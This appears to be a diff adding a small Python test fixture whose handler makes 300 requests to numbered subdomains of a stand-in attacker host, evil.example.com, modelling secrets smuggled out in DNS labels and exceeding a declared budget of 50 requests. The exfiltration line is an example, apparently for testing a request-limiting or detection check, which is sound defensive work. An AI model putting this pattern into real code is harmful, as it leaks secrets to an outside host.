@@ -1,0 +1,11 @@
+"""Secrets carried out in the labels of names that are looked up: more of them than a call has requests.
+
+requests: 50
+"""
+import requests
+
+
+def handler(event, context):
+    for number in range(300):
+        tried(lambda: requests.get(f"https://secret-{number}.evil.example.com/"))
+    return {}
